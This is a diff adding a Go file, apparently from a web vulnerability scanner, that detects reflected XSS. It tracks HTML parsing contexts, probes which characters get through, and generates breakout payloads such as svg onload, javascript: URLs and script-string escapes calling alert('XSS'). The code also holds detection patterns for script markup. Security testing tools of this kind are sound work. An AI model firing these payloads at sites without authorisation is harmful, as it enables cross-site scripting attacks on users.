@@ -0,0 +1,452 @@
+package webvuln
+
+import (
+	"fmt"
+	"regexp"
+	"strings"
+)
+
+// Reflection contexts, where a reflected value lands in an HTML page
+const (
+	contextText      = "HTML text"
+	contextTag       = "HTML tag"
+	contextAttribute = "HTML attribute"
+	contextComment   = "HTML comment"
+	contextRawText   = "raw text element" // textarea, title, style...: no tags inside
+	contextScript    = "script"
+)
+
+// rawTextElements are the elements whose content is not parsed as HTML,
+// up to their end tag
+var rawTextElements = map[string]bool{
+	"script": true, "style": true, "textarea": true, "title": true,
+	"xmp": true, "iframe": true, "noembed": true, "noframes": true, "noscript": true,
+}
+
+// urlAttributes are the attributes a javascript: URL runs from
+var urlAttributes = map[string]bool{
+	"href": true, "src": true, "action": true, "formaction": true, "data": true, "xlink:href": true,
+}
+
+// xssContext is the context a reflected value lands in
+type xssContext struct {
+	Kind      string
+	Quote     byte   // Quote of the attribute value or JavaScript string, 0 if none
+	Attribute string // Attribute name, for contextAttribute
+	Element   string // Element name, for contextRawText and contextScript
+	AtStart   bool   // The value starts the attribute value
+}
+
+// String describes a context in finding descriptions
+func (c xssContext) String() string {
+	quote := "unquoted"
+	switch c.Quote {
+	case '"':
+		quote = "double-quoted"
+	case '\'':
+		quote = "single-quoted"
+	case '`':
+		quote = "template literal"
+	}
+
+	switch c.Kind {
+	case contextAttribute:
+		return fmt.Sprintf("%s '%s', %s", c.Kind, c.Attribute, quote)
+	case contextScript:
+		if c.Quote == 0 {
+			return "script code"
+		}
+		return "script string, " + quote
+	case contextRawText:
+		return fmt.Sprintf("%s <%s>", c.Kind, c.Element)
+	}
+	return c.Kind
+}
+
+// contextAt returns the context of the offset of a page, following the HTML
+// tokenizer states closely enough to tell text, tags, attribute values,
+// comments, raw text elements and the strings of inline scripts apart
+func contextAt(page string, offset int) xssContext {
+	const (
+		text = iota
+		tagName
+		inTag
+		attributeName
+		afterAttributeName
+		beforeValue
+		value
+		comment
+		rawText
+	)
+
+	state := text
+	var element, attribute string
+	var quote, jsQuote byte
+	valueStart := 0
+	lower := strings.ToLower(page)
+
+	// enter starts the content of the element whose tag just closed
+	enter := func() {
+		state = text
+		if rawTextElements[element] {
+			state = rawText
+			jsQuote = 0
+		}
+	}
+
+	for i := 0; i < offset && i < len(page); i++ {
+		c := page[i]
+		switch state {
+		case text:
+			switch {
+			case strings.HasPrefix(page[i:], "<!--"):
+				state = comment
+				i += 3
+			case c == '<' && i+1 < len(page) && (isLetter(page[i+1]) || page[i+1] == '/'):
+				state = tagName
+				element = ""
+			}
+		case tagName:
+			switch {
+			case c == '>':
+				enter()
+			case isSpace(c) || (c == '/' && element != ""):
+				state = inTag
+			default:
+				element += string(toLower(c))
+			}
+		case inTag:
+			switch {
+			case c == '>':
+				enter()
+			case !isSpace(c) && c != '/':
+				state = attributeName
+				attribute = string(toLower(c))
+			}
+		case attributeName:
+			switch {
+			case c == '=':
+				state = beforeValue
+			case c == '>':
+				enter()
+			case isSpace(c):
+				state = afterAttributeName
+			case c == '/':
+				state = inTag
+			default:
+				attribute += string(toLower(c))
+			}
+		case afterAttributeName:
+			switch {
+			case c == '=':
+				state = beforeValue
+			case c == '>':
+				enter()
+			case !isSpace(c):
+				state = attributeName
+				attribute = string(toLower(c))
+			}
+		case beforeValue:
+			switch {
+			case c == '"' || c == '\'':
+				state, quote, valueStart = value, c, i+1
+			case c == '>':
+				enter()
+			case !isSpace(c):
+				state, quote, valueStart = value, 0, i
+			}
+		case value:
+			switch {
+			case quote != 0 && c == quote:
+				state = inTag
+			case quote == 0 && isSpace(c):
+				state = inTag
+			case quote == 0 && c == '>':
+				enter()
+			}
+		case comment:
+			if strings.HasPrefix(page[i:], "-->") {
+				state = text
+				i += 2
+			}
+		case rawText:
+			if c == '<' && strings.HasPrefix(lower[i:], "</"+element) && (element != "script" || jsQuote == 0 || jsQuote == '`') {
+				state = tagName
+				element = ""
+				i++
+				continue
+			}
+			if element != "script" {
+				continue
+			}
+			switch {
+			case jsQuote == 0 && (c == '"' || c == '\'' || c == '`'):
+				jsQuote = c
+			case jsQuote != 0 && c == '\\':
+				i++
+			case jsQuote != 0 && c == jsQuote:
+				jsQuote = 0
+			}
+		}
+	}
+
+	switch state {
+	case text:
+		return xssContext{Kind: contextText}
+	case comment:
+		return xssContext{Kind: contextComment}
+	case rawText:
+		if element == "script" {
+			return xssContext{Kind: contextScript, Quote: jsQuote, Element: element}
+		}
+		return xssContext{Kind: contextRawText, Element: element}
+	case value:
+		return xssContext{Kind: contextAttribute, Quote: quote, Attribute: attribute, AtStart: offset == valueStart}
+	}
+	return xssContext{Kind: contextTag}
+}
+
+// isLetter reports whether a byte is an ASCII letter
+func isLetter(c byte) bool {
+	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
+}
+
+// isSpace reports whether a byte is HTML whitespace
+func isSpace(c byte) bool {
+	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f'
+}
+
+// toLower lowercases an ASCII letter
+func toLower(c byte) byte {
+	if c >= 'A' && c <= 'Z' {
+		return c + 'a' - 'A'
+	}
+	return c
+}
+
+var (
+	// scriptElementPattern matches markup that runs script once parsed as
+	// HTML: a script element, an event handler or a javascript: URL
+	scriptElementPattern = regexp.MustCompile(`(?is)<(script[\s>/]|[a-z][^>]*?[\s/"']on[a-z]+\s*=|[a-z][^>]*?(src|href|action|formaction|data)\s*=\s*["'` + "`" + `]?\s*javascript:)`)
+
+	// eventHandlerPattern matches an event handler attribute
+	eventHandlerPattern = regexp.MustCompile(`(?i)^[^>]*?[\s/"']on[a-z]+\s*=`)
+
+	// scriptCallPattern matches the calls the payloads prove execution with
+	scriptCallPattern = regexp.MustCompile(`(?i)(alert|confirm|prompt|print|eval)\s*[(` + "`" + `]`)
+)
+
+// executes reports whether a value reflected in a context would run script:
+// whether it breaks out of the context into markup or code that runs
+func executes(ctx xssContext, reflected string) bool {
+	// breakout reports whether the value closes its context with closer and
+	// runs script after it
+	breakout := func(closer string, runs func(rest string) bool) bool {
+		i := strings.Index(strings.ToLower(reflected), closer)
+		return i >= 0 && runs(reflected[i+len(closer):])
+	}
+	markup := func(rest string) bool {
+		return scriptElementPattern.MatchString(rest)
+	}
+	handler := func(rest string) bool {
+		return eventHandlerPattern.MatchString(rest) && scriptCallPattern.MatchString(rest)
+	}
+
+	switch ctx.Kind {
+	case contextText:
+		return markup(reflected)
+	case contextComment:
+		return breakout("-->", markup) || breakout("--!>", markup)
+	case contextRawText:
+		return breakout("</"+ctx.Element, markup)
+	case contextTag:
+		return handler(" "+reflected) || breakout(">", markup)
+	case contextAttribute:
+		// Values of event handlers and of URL attributes run as they are
+		if strings.HasPrefix(ctx.Attribute, "on") && scriptCallPattern.MatchString(reflected) {
+			return true
+		}
+		if urlAttributes[ctx.Attribute] && ctx.AtStart && strings.HasPrefix(strings.ToLower(strings.TrimSpace(reflected)), "javascript:") {
+			return true
+		}
+		closer := string(ctx.Quote)
+		if ctx.Quote == 0 {
+			return handler(reflected) || breakout(">", markup)
+		}
+		return breakout(closer, func(rest string) bool { return handler(rest) || breakout(">", markup) })
+	case contextScript:
+		if breakout("</script", markup) {
+			return true
+		}
+		switch ctx.Quote {
+		case 0:
+			return scriptCallPattern.MatchString(reflected)
+		case '`':
+			return breakout("${", scriptCallPattern.MatchString) || breakout("`", scriptCallPattern.MatchString)
+		}
+		return breakout(string(ctx.Quote), scriptCallPattern.MatchString)
+	}
+	return false
+}
+
+// findExecutable looks for a reflection of value in a page that would run
+// script, and returns its context
+func findExecutable(page, value string) (xssContext, bool) {
+	if value == "" {
+		return xssContext{}, false
+	}
+	for offset := 0; ; {
+		i := strings.Index(page[offset:], value)
+		if i < 0 {
+			return xssContext{}, false
+		}
+		ctx := contextAt(page, offset+i)
+		if executes(ctx, value) {
+			return ctx, true
+		}
+		offset += i + 1
+	}
+}
+
+// xssProbe is the value sent to learn where a parameter is reflected and
+// which characters get through: a marker and each special character
+// between two markers
+const xssMarker = "gsx5q"
+
+var xssProbeCharacters = []byte{'"', '\'', '<', '>', '`'}
+
+// xssProbe returns the probe value
+func xssProbe() string {
+	probe := xssMarker
+	for _, c := range xssProbeCharacters {
+		probe += string(c) + xssMarker
+	}
+	return probe
+}
+
+// reflectionContexts returns the contexts a probe is reflected in and the
+// special characters reflected without encoding
+func reflectionContexts(page string) ([]xssContext, map[byte]bool) {
+	contexts := []xssContext{}
+	seen := map[xssContext]bool{}
+	for offset := 0; ; {
+		i := strings.Index(page[offset:], xssMarker)
+		if i < 0 {
+			break
+		}
+		ctx := contextAt(page, offset+i)
+		if !seen[ctx] {
+			seen[ctx] = true
+			contexts = append(contexts, ctx)
+		}
+		offset += i + len(xssMarker)
+	}
+
+	kept := map[byte]bool{}
+	for _, c := range xssProbeCharacters {
+		if strings.Contains(page, xssMarker+string(c)+xssMarker) {
+			kept[c] = true
+		}
+	}
+	return contexts, kept
+}
+
+// contextPayloads returns the payloads fit to break out of a context with
+// the characters that get through, tested before the generic payloads
+func contextPayloads(ctx xssContext, kept map[byte]bool) []Payload {
+	const (
+		element = "<svg onload=alert('XSS')>"
+		handler = " autofocus onfocus=alert('XSS') x="
+	)
+	values := []string{}
+	tags := kept['<'] && kept['>']
+
+	switch ctx.Kind {
+	case contextText:
+		if tags {
+			values = append(values, element, "<img src=x onerror=alert('XSS')>")
+		}
+	case contextComment:
+		if tags {
+			values = append(values, "-->"+element)
+		}
+	case contextRawText:
+		if tags {
+			values = append(values, "</"+ctx.Element+">"+element)
+		}
+	case contextTag:
+		values = append(values, handler+"1")
+		if kept['>'] && tags {
+			values = append(values, ">"+element)
+		}
+	case contextAttribute:
+		if urlAttributes[ctx.Attribute] && ctx.AtStart {
+			values = append(values, "javascript:alert('XSS')")
+		}
+		if strings.HasPrefix(ctx.Attribute, "on") && kept['\''] {
+			values = append(values, "'-alert('XSS')-'")
+		}
+		switch {
+		case ctx.Quote == 0:
+			values = append(values, "x"+handler+"1")
+		case kept[ctx.Quote]:
+			q := string(ctx.Quote)
+			values = append(values, q+handler+q)
+			if tags {
+				values = append(values, q+">"+element)
+			}
+		}
+	case contextScript:
+		if tags {
+			values = append(values, "</script>"+element)
+		}
+		switch {
+		case ctx.Quote == 0:
+			values = append(values, ";alert('XSS');//")
+		case ctx.Quote == '`':
+			values = append(values, "${alert('XSS')}")
+		case kept[ctx.Quote]:
+			q := string(ctx.Quote)
+			values = append(values, q+"-alert('XSS')-"+q, q+";alert('XSS');//")
+		}
+	}
+
+	payloads := make([]Payload, 0, len(values))
+	for _, value := range values {
+		payloads = append(payloads, Payload{
+			Value:       value,
+			Type:        VulnTypeXSS,
+			Description: "Breakout of the " + ctx.String() + " context",
+			Level:       1,
+		})
+	}
+	return payloads
+}
+
+// xssPayloads sends the probe in name and returns the payloads fit to the
+// contexts it is reflected in, followed by the generic payloads
+func (s *Scanner) xssPayloads(name string, payloads []Payload, send func(payload Payload) []payloadAttempt) []Payload {
+	fitted := []Payload{}
+	seen := map[string]bool{}
+	for _, attempt := range send(Payload{Value: xssProbe(), Type: VulnTypeXSS, Description: "Reflection context probe", Level: 1}) {
+		contexts, kept := reflectionContexts(attempt.Body)
+		for _, ctx := range contexts {
+			if s.ScanOptions.VerboseMode {
+				fmt.Printf("[i] '%s' is reflected in %s context\n", name, ctx)
+			}
+			for _, payload := range contextPayloads(ctx, kept) {
+				if !seen[payload.Value] {
+					seen[payload.Value] = true
+					fitted = append(fitted, payload)
+				}
+			}
+		}
+	}
+
+	for _, payload := range payloads {
+		if !seen[payload.Value] {
+			fitted = append(fitted, payload)
+		}
+	}
+	return fitted
+}